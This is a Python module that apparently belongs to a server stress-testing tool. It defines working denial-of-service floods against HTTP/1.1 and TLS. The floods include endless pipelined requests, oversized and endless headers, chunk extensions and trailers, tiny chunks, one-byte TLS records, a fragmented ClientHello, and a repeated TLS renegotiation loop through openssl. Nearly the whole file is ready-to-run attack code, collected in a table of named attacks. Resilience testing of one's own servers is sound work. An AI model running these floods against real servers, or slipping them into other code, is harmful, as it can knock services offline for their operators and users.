"""Floods of HTTP/1.1 and of TLS below it: pipelines, heads, chunks and trailers without end, records of one byte."""

import collections
import re
import ssl
import subprocess
import time

from lines import Attack

STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")


class Http1(Attack):
    def head(self, method, *fields, path="/golden"):
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self.host}", *fields]
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    def chunked(self):
        return self.head("POST", "Transfer-Encoding: chunked", path="/upload")

    def endless(self, head, piece):
        """A beginning, and the same piece again and again."""
        yield head
        while True:
            yield piece

    def received(self, line, data):
        for status in STATUS.findall(data):
            self.counts[f"status {status.decode()}"] += 1


class Pipelining(Http1):
    """Requests without waiting for answers; every second connection reads none."""

    def start(self, line):
        return self.endless(b"", self.head("GET") * 500)

    def reads(self, line):
        return line.number % 2 == 0


class HugeHeads(Http1):
    connections = 64

    def start(self, line):
        if line.number % 2:
            return self.endless(self.head("GET")[:-2] + b"X-A: ", b"a" * 65536)
        return self.endless(self.head("GET")[:-2], b"X-B: b\r\n" * 8192)


class ChunkExtensions(Http1):
    connections = 64

    def start(self, line):
        return self.endless(self.chunked() + b"1;", b"a=b;" * 16384)


class TinyChunks(Http1):
    connections = 64

    def start(self, line):
        return self.endless(self.chunked(), b"1\r\nx\r\n" * 8192)


class Trailers(Http1):
    connections = 64

    def start(self, line):
        return self.endless(self.chunked() + b"0\r\n", b"X-T: t\r\n" * 8192)


class TinyRecords(Http1):
    """A body in TLS records of one byte each: 22 bytes of wire and one decryption per byte."""

    tls = True
    protocols = ("http/1.1",)
    connections = 32
    piece = 1

    def start(self, line):
        return self.endless(self.head("POST", "Content-Length: 4000000", path="/upload"), b"x" * 4096)


class TinyHandshakeRecords(Http1):
    """A ClientHello in records of one byte, followed by as many again."""

    connections = 32

    def start(self, line):
        hello = client_hello(self.host)[5:]
        return iter([b"".join(b"\x16\x03\x01\x00\x01" + hello[i : i + 1] for i in range(len(hello)))] * 4)


def client_hello(host):
    """A complete ClientHello record."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    connection = context.wrap_bio(incoming, outgoing, server_hostname=host)
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def renegotiate(options):
    """TLS 1.2, and then asks for another handshake on the same connection (`R` of openssl s_client)."""
    counts = collections.Counter()
    end = time.monotonic() + options.seconds
    target = f"{options.address}:{options.tls_port}"
    command = ["openssl", "s_client", "-connect", target, "-tls1_2", "-legacy_renegotiation"]
    while time.monotonic() < end:
        request = f"GET /golden HTTP/1.1\r\nHost: {options.host}\r\nConnection: close\r\n\r\n"
        client = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
        )
        client.stdin.write("R\n")
        client.stdin.flush()
        # s_client looks for commands at the beginning of what it reads at once, so the request comes separately.
        time.sleep(0.3)
        try:
            said, _ = client.communicate(request, timeout=2)
            waits = False
        except subprocess.TimeoutExpired:
            client.kill()
            said, _ = client.communicate()
            waits = True
        counts["connections opened"] += 1
        if "RENEGOTIATING" not in said:
            counts["not asked"] += 1
        elif waits:
            counts["asked and not answered"] += 1
        # The certificate is verified once per handshake.
        elif said.count("depth=0") > 1 and "HTTP/1.1" in said:
            counts["renegotiated"] += 1
        else:
            counts["refused"] += 1
    return dict(counts)


ATTACKS = {
    "h1-pipelining": Pipelining,
    "h1-huge-heads": HugeHeads,
    "h1-chunk-extensions": ChunkExtensions,
    "h1-tiny-chunks": TinyChunks,
    "h1-trailers": Trailers,
    "tls-tiny-records": TinyRecords,
    "tls-tiny-hello": TinyHandshakeRecords,
}
